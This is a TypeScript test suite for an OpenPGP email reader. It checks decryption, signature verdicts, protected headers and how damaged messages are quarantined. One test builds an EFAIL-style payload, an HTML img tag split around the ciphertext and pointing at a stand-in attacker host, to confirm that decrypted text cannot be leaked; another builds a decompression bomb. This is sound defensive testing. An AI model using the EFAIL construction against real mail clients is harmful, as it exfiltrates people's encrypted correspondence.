import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import {
  alice,
  assertOpenpgp,
  type Correspondence,
  crlf,
  encryptedMail,
  encryptedPart,
  header,
  openCorrespondence,
  plain,
  role,
  signedBy,
  signedPart,
} from './testing.ts';

let world: Correspondence;
before(async () => {
  world = await openCorrespondence();
});
after(() => world.gnupg.remove());

test('PGP/MIME, encrypted and signed in one: everything a reader must know is there', async () => {
  const mail = await world.read(encryptedMail(world.encrypt(plain('secret words'), ...signedBy(alice))));
  assert.equal(mail.text, 'secret words\n');
  assert.equal(mail.failure, null);
  assertOpenpgp(mail, {
    encrypted: true,
    form: 'pgp-mime',
    decryptedWith: world.key.fingerprint,
    signature: 'good',
    signerAddresses: [alice],
    signerIsSender: true,
    signerOrigin: 'known',
    integrity: 'mdc',
    protectedSubject: false,
    reasons: [],
  });
});

test('PGP/MIME with the signature inside the encryption is verified too', async () => {
  const part = plain('twice');
  const inner = signedPart(part, world.detached(part));
  const mail = await world.read(encryptedMail(world.encrypt(inner)));
  assert.equal(mail.text, 'twice\n');
  assertOpenpgp(mail, { encrypted: true, signature: 'good', signerIsSender: true });
});

test('a signature around the ciphertext is told apart from one over the text', async () => {
  const ciphertext = world.encrypt(plain('inside'));
  const inner = encryptedPart(ciphertext).trimEnd();
  const mail = await world.read(header + signedPart(inner, world.detached(inner)));
  assert.equal(mail.text, 'inside\n');
  assertOpenpgp(mail, { signature: 'good', reasons: ['signed-outside-encryption'] });
});

test('multipart/signed is verified over the octets as they came, whatever the line ends', async () => {
  const part = `Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n${plain('one  \r\n- two')}\r\n--m\r\nContent-Type: text/x-log; name=a.log\r\nContent-Disposition: attachment\r\n\r\nlog\r\n--m--\r\n`;
  const text = crlf(header + signedPart(part, world.detached(part)));
  for (const raw of [text, text.replaceAll('\r\n', '\n')]) {
    const mail = await world.read(Buffer.from(raw, 'latin1'));
    assertOpenpgp(mail, { encrypted: false, form: 'pgp-mime', signature: 'good', reasons: [] });
    assert.deepEqual(
      mail.attachments.map(({ filename, protection }) => [filename, protection.signature]),
      [['a.log', 'good']],
    );
  }
  const changed = await world.read(text.replace('one', 'two'));
  assertOpenpgp(changed, { signature: 'bad', signatureReason: 'mismatch' });
});

test('a part beside the signed one takes the verdict from the whole', async () => {
  const part = plain('signed');
  const inner = signedPart(part, world.detached(part));
  const mail = await world.read(
    `${header}Content-Type: multipart/mixed; boundary=l\r\n\r\n--l\r\n${inner}\r\n--l\r\n${plain('list footer')}\r\n--l--\r\n`,
  );
  assertOpenpgp(mail, { signature: 'none', reasons: ['partly-signed'] });
  assert.deepEqual(
    mail.parts.map(({ text, protection }) => [text.trim(), protection.signature]),
    [
      ['signed', 'good'],
      ['list footer', 'none'],
    ],
  );
});

test('inline PGP: several blocks with text between them stay apart', async () => {
  const one = world.encrypt('first secret', ...signedBy(alice));
  const two = world.gnupg.run(['--clear-sign', '--local-user', alice], 'signed words\n').toString();
  const mail = await world.read(`${header}Content-Type: text/plain\r\n\r\nHello\n\n${one}\nmiddle\n${two}`);
  assert.deepEqual(
    mail.parts.map(({ text, protection }) => [text.trim(), protection.encrypted, protection.signature]),
    [
      ['Hello', false, 'none'],
      ['first secret', true, 'good'],
      ['middle', false, 'none'],
      ['signed words', false, 'good'],
    ],
  );
  assert.equal(mail.text, 'first secret\n');
  assertOpenpgp(mail, { encrypted: true, form: 'inline', signature: 'good', reasons: ['partly-encrypted'] });
});

test('inline PGP survives quoted-printable and HTML', async () => {
  const block = world.encrypt('quoted secret');
  const quoted = block.replaceAll('=', '=3D').replaceAll('\n', '\r\n');
  const right = await world.read(
    `${header}Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${quoted}`,
  );
  assert.equal(right.text, 'quoted secret\n');
  const undeclared = await world.read(`${header}Content-Type: text/plain\r\n\r\n${quoted}`);
  assert.equal(undeclared.text, 'quoted secret\n');
  const html = await world.read(`${header}Content-Type: text/html\r\n\r\n<p>${block.replaceAll('\n', '<br>\n')}</p>`);
  assert.equal(html.text, 'quoted secret\n');
});

test('the form that mutt wrote before PGP/MIME is read as text', async () => {
  const mail = await world.read(
    `${header}Content-Type: application/pgp; x-action=encrypt; format=text\r\n\r\n${world.encrypt('old secret')}`,
  );
  assert.equal(mail.text, 'old secret\n');
});

test("Exchange's mangled form is opened, with base64 around it", async () => {
  const base64 = (text: string) => `Content-Transfer-Encoding: base64\r\n\r\n${Buffer.from(text).toString('base64')}`;
  const mail = await world.read(
    `${header}Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\n\r\n--x\r\nContent-Type: application/pgp-encrypted; name=v\r\n${base64('Version: 1\n')}\r\n--x\r\nContent-Type: application/octet-stream; name="encrypted.asc"\r\n${base64(world.encrypt(plain('mangled'), ...signedBy(alice)))}\r\n--x--\r\n`,
  );
  assert.equal(mail.text, 'mangled\n');
  assertOpenpgp(mail, { form: 'exchange', encrypted: true, signature: 'good', reasons: [] });
});

test('an encrypted attachment is opened under its own protection', async () => {
  const sealed = world.gnupg.run(['--encrypt', '--recipient', role], 'core dump').toString('base64');
  const mail = await world.read(
    `${header}Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n${plain('see attachment')}\r\n--x\r\nContent-Type: application/octet-stream; name="core.bin.gpg"\r\nContent-Transfer-Encoding: base64\r\n\r\n${sealed}\r\n--x--\r\n`,
  );
  assert.equal(mail.text, 'see attachment\n');
  const [attachment] = mail.attachments;
  assert.equal(attachment?.filename, 'core.bin');
  assert.equal(Buffer.from(attachment?.bytes ?? []).toString(), 'core dump');
  assert.equal(attachment?.protection.encrypted, true);
});

test('EFAIL: ciphertext between two halves of a tag is never joined with them', async () => {
  const mail = await world.read(
    `${header}Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--x\r\n${encryptedPart(world.encrypt(plain('the secret')))}\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n`,
  );
  assert.equal(mail.text, 'the secret\n');
  assert.ok(mail.parts.every(({ text, protection }) => protection.encrypted === text.includes('secret')));
  assert.ok(mail.parts.every(({ text }) => !text.includes('evil.example')));
});

test('headers inside the encryption replace the subject, and a different From is noted', async () => {
  const inner = `Content-Type: text/plain; charset=utf-8; protected-headers="v1"\r\nSubject: =?utf-8?Q?Gr=C3=BC=C3=9Fe?= inside\r\nFrom: boss@example.com\r\n\r\nbody`;
  const mail = await world.read(
    encryptedMail(world.encrypt(inner, ...signedBy(alice))).replace('Subject: outer', 'Subject: ...'),
  );
  assert.equal(mail.subject, 'Grüße inside');
  assert.equal(mail.outerSubject, '...');
  assertOpenpgp(mail, { protectedSubject: true, reasons: ['protected-from-differs'] });
});

test('a protected subject under a bad signature is not believed', async () => {
  const inner = 'Content-Type: text/plain; protected-headers="v1"\r\nSubject: inner\r\n\r\nbody';
  const mail = await world.read(header + signedPart(inner, world.detached('something else')));
  assert.equal(mail.subject, 'outer');
  assertOpenpgp(mail, { protectedSubject: false, signature: 'bad' });
});

test('a message for a foreign key is a report that says which key it is for', async () => {
  const foreign = world.gnupg.run(['--armor', '--encrypt', '--recipient', alice], crlf(plain('not for us'))).toString();
  const mail = await world.read(encryptedMail(foreign));
  assert.equal(mail.failure, null);
  assert.equal(mail.text, '');
  assert.equal(mail.openpgp.unreadable?.reason, 'foreign-key');
  assert.equal(mail.openpgp.unreadable?.recipients.length, 1);
  assertOpenpgp(mail, { encrypted: true, decryptedWith: null, signature: 'none' });
  assert.deepEqual(
    mail.attachments.map(({ filename, role: kind }) => [filename, kind]),
    [['encrypted.asc', 'undecryptable']],
  );
});

test('a damaged message goes to the quarantine with the reason', async () => {
  const lines = world.encrypt(plain('damaged'.repeat(200))).split('\n');
  const damaged = lines.map((line, i) => (i === 6 ? line.split('').reverse().join('') : line)).join('\n');
  assert.equal((await world.read(encryptedMail(damaged))).failure?.reason, 'modified');
  assert.equal((await world.read(encryptedMail(lines.slice(0, 6).join('\n')))).failure?.reason, 'truncated');
  assert.equal((await world.read(encryptedMail('nothing of the kind'))).failure?.reason, 'malformed');
});

test('of two parts, one encrypted to us and one to a stranger, the readable one is shown and the other noted', async () => {
  const foreign = world.gnupg.run(['--armor', '--encrypt', '--recipient', alice], 'x').toString();
  const mail = await world.read(`${header}Content-Type: text/plain\r\n\r\n${world.encrypt('readable')}\n${foreign}`);
  assert.equal(mail.text, 'readable\n');
  assert.equal(mail.failure, null);
  assertOpenpgp(mail, { reasons: ['undecryptable-part'] });
});

test('a message without integrity protection is shown and flagged', async () => {
  const mail = await world.read(encryptedMail(world.encrypt(plain('weak'), '--rfc2440', '--disable-mdc')));
  assert.equal(mail.text, 'weak\n');
  assertOpenpgp(mail, { integrity: 'none', reasons: ['no-integrity-protection'] });
});

test('a decompression bomb ends in the quarantine', async () => {
  const bomb = world.gnupg
    .run(['--armor', '--compress-algo', 'zlib', '--encrypt', '--recipient', role], Buffer.alloc(80 << 20))
    .toString();
  assert.equal((await world.read(encryptedMail(bomb))).failure?.reason, 'bomb');
});

test('the plain brother of an encrypted alternative is not taken for the message', async () => {
  const inner = encryptedPart(world.encrypt(plain('the real one')));
  const mail = await world.read(
    `${header}Content-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\n${plain('this mail is encrypted')}\r\n--a\r\n${inner}\r\n--a--\r\n`,
  );
  assert.equal(mail.text, 'the real one\n');
});
